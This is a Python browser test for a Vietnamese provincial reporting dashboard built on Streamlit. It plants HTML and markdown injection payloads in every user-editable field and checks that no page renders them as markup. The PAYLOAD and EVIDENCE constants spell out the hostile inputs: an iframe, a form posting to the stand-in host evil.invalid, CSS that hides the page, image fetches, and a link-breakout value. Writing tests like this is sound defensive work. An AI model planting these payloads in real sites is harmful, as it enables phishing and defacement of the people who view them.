"""Text is text (issue 14): HTML and markdown planted in every field a user can fill never becomes markup.

The red-team run found a unit name or a plan task rendering as HTML for anonymous visitors: a working password
form posting to another site, page-wide CSS, iframes. Here the payload goes into unit and indicator names, a
user's full name, a plan's tasks (content, lead, partners), a task mark's note and evidence link, and the names
of uploaded files; then every page is opened in Chromium and its DOM is searched for anything the payload
could have made: an iframe, a form, a style sheet, an image, a link to the payload's site.
"""
from __future__ import annotations

import pytest

from loaders.accounts.users import create_user
from loaders.store.schema import connect
from tests.conftest import sign_in, start_streamlit, stop_streamlit
from tests.test_page_ke_hoach import STP_PLAN

pytestmark = pytest.mark.browser

EVIL = "evil.invalid"
PAYLOAD = (f'<iframe src="http://{EVIL}/f"></iframe><form action="http://{EVIL}/p"><input name="mk"></form>'
           f'<style>.evil-marker{{color:red}} body{{display:none}}</style>![x](http://{EVIL}/i.png)'
           f'<img src="http://{EVIL}/j.png"> [bấm vào](http://{EVIL}/l) :red[đỏ] **đậm** <a href="http://{EVIL}/a">liên kết</a>'
           f'<b>đậm</b>')
# The evidence link must be a link; what follows the address must not break out of it.
EVIDENCE = f"https://stp.daklak.gov.vn/a)![y](http://{EVIL}/k.png)<iframe/src=http://{EVIL}/g>"

LEADERSHIP = [  # (path with its query, text that says the page has drawn): open to anonymous visitors
    ("/tong_quan?nam=2025&quy=3", "Tổng quan"),
    ("/hoat_dong?nam=2025&quy=3&don_vi=so_tu_phap", "Chi tiết một đơn vị"),
    ("/chi_so", "Chỉ số"),
    ("/don_vi?don_vi=so_tu_phap", "Sở Tư pháp"),
    ("/trinh_chieu", "Cuối"),
]
DATA_PAGES = [  # (sidebar title, text that says the page has drawn, selectbox choices): for a signed-in user
    ("Tải lên", "Tải lên báo cáo", ()),
    ("Lịch sử", "Lịch sử", ()),
    ("Chỉ tiêu", "Chỉ tiêu", ()),
    ("Kế hoạch", "Kế hoạch", (("Năm", "2025"), ("Quý", "Quý II"))),
    ("Chưa báo cáo", "Chưa báo cáo", ()),
    ("Danh mục", "Danh mục", ()),
]

FIND_MARKUP = rf"""() => {{
  const evil = (s) => {{  // an address on the payload's host (a path that merely names it goes nowhere)
    try {{ return new URL(s || '', location.href).hostname.endsWith('{EVIL}'); }} catch (e) {{ return false; }}
  }};
  const found = [];
  const where = (el) => {{
    const box = el.closest('[data-testid]:not([data-testid="stMarkdownContainer"])');
    return ' in ' + (box ? box.dataset.testid : '?') + ': ' + (box ? box.innerText : '').slice(0, 70).replace(/\s+/g, ' ');
  }};
  for (const el of document.querySelectorAll('iframe, frame, object, embed'))
    if (evil(el.getAttribute('src')) || evil(el.getAttribute('data'))) found.push('frame' + where(el));
  for (const el of document.querySelectorAll('form'))
    if (evil(el.getAttribute('action')) || el.querySelector('input[name="mk"]')) found.push('form' + where(el));
  for (const el of document.querySelectorAll('style'))
    if (el.textContent.includes('evil-marker')) found.push('style' + where(el));
  for (const el of document.querySelectorAll('img, image, source, video, audio'))
    if (evil(el.getAttribute('src')) || evil(el.getAttribute('href')) || evil(el.getAttribute('xlink:href')))
      found.push('image' + where(el));
  for (const el of document.querySelectorAll('a'))
    if (evil(el.getAttribute('href')) || evil(el.getAttribute('xlink:href'))) found.push('link' + where(el));
  if (getComputedStyle(document.body).display === 'none') found.push('body hidden');
  if (document.body.innerText.includes('.evil-marker{{')) found.push('SHOWN');  // the payload, shown as text
  return found;
}}"""


def plant(db) -> None:
    """The payload in every user-editable field, as the write functions would store it."""
    from loaders.plans.extract import extract_plan
    from loaders.plans.save import mark_task, save_plan
    from loaders.registry.registries import Registry
    from loaders.store.materialize import refresh_if_stale

    with connect(db) as con:
        create_user(con, "qt", "matkhau-1", "quan_tri", "Quản trị " + PAYLOAD)
        con.execute("UPDATE unit SET name = name || ' ' || ? WHERE code IN ('so_tu_phap', 'so_xay_dung')", [PAYLOAD])
        con.execute("UPDATE metric SET name = name || ' ' || ? WHERE code = 'tin_bai'", [PAYLOAD])
        con.execute("UPDATE metric SET grp = grp || ' ' || ? WHERE code = 'video_clip'", [PAYLOAD])
        plan = extract_plan(STP_PLAN.encode(), "kh.txt", Registry.from_db(con))
        batch = save_plan(con, plan, "qt", f"ke_hoach {PAYLOAD}.txt", STP_PLAN.encode())
        con.execute("UPDATE plan_task SET content = ? || ' ' || content, lead_text = ?, partners = [?] "
                    "WHERE batch_id = ?", [PAYLOAD, PAYLOAD, PAYLOAD, batch])
        con.execute("UPDATE batch SET note = ? WHERE id = ?", [PAYLOAD, batch])
        task = con.execute("SELECT min(id) FROM plan_task WHERE batch_id = ?", [batch]).fetchone()[0]
        mark_task(con, task, 2025, 2, "done", "qt", note=PAYLOAD, evidence_url=EVIDENCE,
                  evidence_file=b"%PDF-1.4", evidence_name=f"{PAYLOAD}.pdf")
        con.execute("UPDATE batch SET file_name = ? WHERE id = (SELECT max(id) FROM batch WHERE kind = 'sample')",
                    [f"bao_cao {PAYLOAD}.xlsx"])
        refresh_if_stale(con)


@pytest.fixture
def server(demo_db):
    plant(demo_db)
    proc, url = start_streamlit(demo_db)
    yield url
    stop_streamlit(proc)


def settle(page) -> None:
    page.wait_for_timeout(300)
    page.wait_for_function("!document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=120_000)


def open_all(page) -> None:
    """Open every expander (closed tables and lists are sent only when opened)."""
    for expander in page.locator('[data-testid="stExpander"] summary').all():
        try:
            expander.click(timeout=2_000)
        except Exception:  # noqa: BLE001 - an expander that went away while others opened
            pass
    settle(page)


def visit(page, url: str, path: str, ready: str) -> list[str]:
    """Open a leadership page at its URL (a new, anonymous session: read access is open)."""
    page.goto(url + path)
    page.wait_for_selector('[data-testid="stApp"]')
    # in the page itself: the sidebar names every page before the script has run
    page.locator('[data-testid="stMain"]').get_by_text(ready, exact=len(ready) < 6).first.wait_for()
    settle(page)
    open_all(page)
    return page.evaluate(FIND_MARKUP)


def choose(page, label: str, option: str) -> None:
    """Pick an option of a selectbox as a user does."""
    page.get_by_label(label, exact=True).first.click()
    page.get_by_role("option", name=option, exact=True).click()
    settle(page)


def follow(page, title: str, ready: str, choices=()) -> list[str]:
    """Go to a page through the sidebar (the signed-in session goes on), pick the choices, look."""
    page.locator('[data-testid="stSidebarNav"]').get_by_role("link", name=title).click()
    page.get_by_text(ready).first.wait_for()
    settle(page)
    found = []
    tabs = page.locator('[data-testid="stMain"] [role="tab"]')
    for i in range(max(tabs.count(), 1)):  # every tab of the page, each with its choices made
        if tabs.count():
            for _ in range(5):  # a rerun may redraw the tabs under the click: try again once it settles
                try:
                    tabs.nth(i).click(timeout=10_000)
                    break
                except Exception:  # noqa: BLE001
                    settle(page)
            settle(page)
        for label, option in choices:
            if page.get_by_label(label, exact=True).first.is_visible():
                choose(page, label, option)
        open_all(page)
        found += page.evaluate(FIND_MARKUP)
    return found


def test_no_page_turns_planted_text_into_markup(server, browser_page, tmp_path):
    page = browser_page
    page.set_default_timeout(120_000)
    requests = []
    page.on("request", lambda r: requests.append(r.url) if EVIL in r.url else None)
    found = {}
    for path, ready in LEADERSHIP:
        found[path] = visit(page, server, path, ready)
        page.screenshot(path=str(tmp_path / f"{path.strip('/').split('?')[0]}.png"), full_page=True)
    sign_in(page, server, "qt", "matkhau-1")  # an administrator sees every data page
    for title, ready, choices in DATA_PAGES:
        found[title] = follow(page, title, ready, choices)
        page.screenshot(path=str(tmp_path / f"{title}.png"), full_page=True)
    shown = {k for k, v in found.items() if "SHOWN" in v}
    assert shown >= {"/tong_quan?nam=2025&quy=3", "/hoat_dong?nam=2025&quy=3&don_vi=so_tu_phap",
                     "/don_vi?don_vi=so_tu_phap", "Kế hoạch", "Tải lên"}, shown  # the pages did draw the names
    bad = {k: sorted(set(v) - {"SHOWN"}) for k, v in found.items() if set(v) - {"SHOWN"}}
    assert not bad, "\n".join(f"{k}: {f}" for k, v in bad.items() for f in v)
    assert not requests, requests  # nothing was ever fetched from the payload's site
